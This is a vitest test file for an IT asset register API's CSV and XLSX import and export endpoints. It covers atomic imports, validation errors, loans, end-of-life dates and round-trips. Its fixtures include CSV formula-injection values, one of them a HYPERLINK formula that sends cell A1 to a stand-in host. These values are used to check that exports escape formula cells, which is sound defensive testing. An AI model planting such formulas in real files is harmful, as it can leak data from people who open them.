import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { ENGINES } from '../../../test/support/databases.js';
import { snapshotCounts, startApi, type TestApi } from '../../../test/support/api.js';
import { expectProblem, raw, refused } from './support/http.js';

const CSV = 'text/csv';
const upload = (api: TestApi, kind: string, body: string | Buffer, query = '', type = CSV) =>
  raw(api, 'POST', `/api/v1/imports/${kind}${query}`, body as string, { 'content-type': type });

describe.each(ENGINES)('imports and exports over HTTP ($name)', (engine) => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startApi(engine);
    const locations = await upload(api, 'locations', 'name,code,kind,parent\nFrance,FR,country,\nParis,PAR,site,FR\n');
    expect(locations.status, JSON.stringify(locations.body)).toBe(200);
    const people = await upload(api, 'people', 'name,email,employee number\nAda Lovelace,ada@example.com,E1\n');
    expect(people.body).toMatchObject({ applied: true, created: 1 });
  });
  afterAll(async () => { await api.close(); });

  const assets = ['Asset Tag,Name,Type,Serial Number,Location,Assigned To,Purchase Cost,Currency,Notes',
    'HTTP-1,ThinkPad,laptop,S-1,PAR,ada@example.com,1499.90,EUR,=HYPERLINK("http://x/?"&A1)',
    'HTTP-2,Latitude,laptop,S-2,FR,,980,EUR,@SUM(1+1)'].join('\r\n');

  it('imports a CSV atomically with history, lists the run, and refuses the same file twice', async () => {
    const dry = await upload(api, 'assets', assets, '?dryRun=true');
    expect(dry.body).toMatchObject({ applied: false, created: 2, problems: [] });
    expect((await api.call('GET', '/api/v1/assets?q=HTTP-')).body.items).toHaveLength(0);
    const res = await upload(api, 'assets', assets, '?fileName=assets.csv');
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ applied: true, rows: 2, created: 2 });
    const listed = await api.call('GET', '/api/v1/assets?q=HTTP-&sort=tag');
    expect(listed.body.items.map((a: any) => [a.tag, a.stage, a.purchaseCostMinor, a.notes])).toEqual([
      ['HTTP-1', 'in_use', 149990, '=HYPERLINK("http://x/?"&A1)'], ['HTTP-2', 'in_stock', 98000, '@SUM(1+1)'],
    ]);
    const history = await api.call('GET', `/api/v1/assets/${listed.body.items[0].id}/history`);
    expect(history.body.items[0]).toMatchObject({ action: 'import', source: 'import', reason: 'Import of assets.csv' });
    const runs = await api.call('GET', '/api/v1/imports');
    expect(runs.body.items[0]).toMatchObject({ kind: 'assets', fileName: 'assets.csv', rows: 2, created: 2, status: 'applied' });
    expect((await api.call('GET', `/api/v1/imports/${res.body.importId}`)).body.id).toBe(res.body.importId);
    await refused(api, () => upload(api, 'assets', assets), 409, 'IMPORT_ALREADY_APPLIED');
    const again = await upload(api, 'assets', assets, '?mode=upsert');
    expect(again.body).toMatchObject({ applied: true, created: 0, updated: 0, skipped: 2 });
  });

  it('an end of life the file leaves to the catalogue model follows the model afterwards, as for an asset created by hand', async () => {
    const types = (await api.call('GET', '/api/v1/asset-types?limit=100')).body.items;
    const laptop = types.find((t: any) => t.key === 'laptop');
    const maker = (await api.call('POST', '/api/v1/manufacturers', { name: 'EolMaker' })).body;
    const model = (await api.call('POST', '/api/v1/models', { name: 'Eol 36', manufacturerId: maker.id, assetTypeId: laptop.id, eolMonths: 36 })).body;
    const file = ['Asset Tag,Name,Type,Model,Purchase date', 'EOL-1,Derived,laptop,Eol 36,2024-01-15'].join('\n');
    expect((await upload(api, 'assets', file)).body).toMatchObject({ applied: true, created: 1 });
    const [asset] = (await api.call('GET', '/api/v1/assets?q=EOL-1')).body.items;
    expect(asset).toMatchObject({ modelId: model.id, eolDate: '2027-01-15' });
    const moved = await api.call('PATCH', `/api/v1/assets/${asset.id}`, { purchaseDate: '2025-06-01' }, { 'if-match': `"${asset.version}"` });
    expect(moved.body.eolDate).toBe('2028-06-01');
  });

  it('refuses a file with one bad row and writes nothing, naming line, column and reason', async () => {
    const rows = ['tag,name,type,purchase date'];
    for (let i = 0; i < 300; i++) rows.push(`BAD-${i},Item ${i},laptop,${i === 150 ? '2026-02-30' : '2025-01-01'}`);
    const res = await refused(api, () => upload(api, 'assets', rows.join('\n')), 422, 'IMPORT_INVALID');
    expect(res.body.report.problems).toEqual([expect.objectContaining({ line: 152, column: 'purchase_date' })]);
  });

  it('keeps an overdue loan of a row with an assignee, and refuses an expected return date without one', async () => {
    const file = ['tag,name,type,assigned to,expected return', 'LOAN-1,Loaner,laptop,ada@example.com,2020-01-31', 'LOAN-2,Spare,laptop,,2027-01-31'].join('\n');
    const res = await refused(api, () => upload(api, 'assets', file), 422, 'IMPORT_INVALID');
    expect(res.body.report.problems).toEqual([expect.objectContaining({ line: 3, column: 'expected_return_date', code: 'RETURN_DATE_WITHOUT_ASSIGNEE' })]);
    const fixed = await upload(api, 'assets', file.replace('LOAN-2,Spare,laptop,,2027-01-31', 'LOAN-2,Spare,laptop,,'));
    expect(fixed.body).toMatchObject({ applied: true, created: 2 });
    const loan = (await api.call('GET', '/api/v1/assets?q=LOAN-1')).body.items[0];
    expect(loan).toMatchObject({ stage: 'in_use', expectedReturnDate: '2020-01-31' });
  });

  it('refuses unreadable files with clear errors and writes nothing', async () => {
    await refused(api, () => upload(api, 'assets', Buffer.from([0x74, 0x61, 0x67, 0x0a, 0x41, 0x81, 0x8d, 0x0a])), 422, 'IMPORT_ENCODING_UNSUPPORTED');
    await refused(api, () => upload(api, 'assets', 'tag,name,colour\nA,B,red\n'), 422, 'IMPORT_INVALID');
    await refused(api, () => upload(api, 'assets', 'tag,name\n"A,B\n'), 422, 'IMPORT_INVALID');
    await refused(api, () => upload(api, 'assets', 'tag,name\nA,B\n', '', 'text/html'), 415, 'UNSUPPORTED_MEDIA_TYPE');
    await refused(api, () => upload(api, 'printers', 'tag\nA\n'), 404);
    await refused(api, () => upload(api, 'assets', 'tag\nA\n', '?mode=merge'), 400, 'INVALID_QUERY');
  });

  it('exports the filtered register to CSV and XLSX with formula cells escaped', async () => {
    const csv = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?q=HTTP-', headers: { authorization: `Bearer ${api.adminToken}` } });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="custodia-assets-\d{4}-\d{2}-\d{2}\.csv"$/);
    const records = parse(csv.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => [r['Asset tag'], r['Notes'], r['Purchase cost']])).toEqual([
      ['HTTP-1', `'=HYPERLINK("http://x/?"&A1)`, '1499.90'], ['HTTP-2', "'@SUM(1+1)", '980.00'],
    ]);
    const xlsx = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?format=xlsx&q=HTTP-', headers: { authorization: `Bearer ${api.adminToken}` } });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as never);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(3);
    const notes = sheet.getRow(1).values as string[];
    const col = notes.indexOf('Notes');
    expect(sheet.getRow(2).getCell(col).value).toBe(`'=HYPERLINK("http://x/?"&A1)`);
    expectProblem(await api.call('GET', '/api/v1/assets/export?format=pdf'), 400, 'INVALID_QUERY');
  });

  it('imports what it exported without changing anything', async () => {
    const csv = await api.app.inject({ method: 'GET', url: '/api/v1/assets/export?q=HTTP-', headers: { authorization: `Bearer ${api.adminToken}` } });
    const before = await snapshotCounts(api.db);
    const res = await upload(api, 'assets', csv.body, '?mode=upsert');
    expect(res.body, JSON.stringify(res.body).slice(0, 600)).toMatchObject({ applied: true, created: 0, updated: 0 });
    const after = await snapshotCounts(api.db);
    expect({ ...after, import_runs: before.import_runs }).toEqual(before);
  });

  it('lists the columns each kind accepts with their header spellings (for mapping a file in the import wizard)', async () => {
    const assetColumns = await api.call('GET', '/api/v1/imports/assets/columns');
    expect(assetColumns.status).toBe(200);
    const byName = new Map(assetColumns.body.columns.map((c: any) => [c.name, c.aliases]));
    expect(byName.get('tag')).toContain('asset tag');
    expect(byName.get('serial')).toContain('serial number');
    // Attributes of the asset types are columns too (attr.<key>).
    expect([...byName.keys()].some((n) => String(n).startsWith('attr.'))).toBe(true);
    const people = await api.call('GET', '/api/v1/imports/people/columns');
    expect(people.body.columns.map((c: any) => c.name)).toEqual(expect.arrayContaining(['name', 'email', 'employee_number', 'org_unit', 'manager']));
    // Every name and alias listed is accepted as a header by the importer.
    const headers = people.body.columns.map((c: any) => c.aliases[0] ?? c.name).join(',');
    const check = await upload(api, 'people', `${headers}\n`, '?dryRun=true');
    expect(check.status, JSON.stringify(check.body)).toBe(200);
    expectProblem(await api.call('GET', '/api/v1/imports/printers/columns'), 404, 'NOT_FOUND');
    const reader = await api.user(`reader${Date.now().toString(36)}`, [{ role: 'it_asset_analyst' }]);
    expectProblem(await api.call('GET', '/api/v1/imports/assets/columns', undefined, reader.auth), 403, 'FORBIDDEN');
  });
});
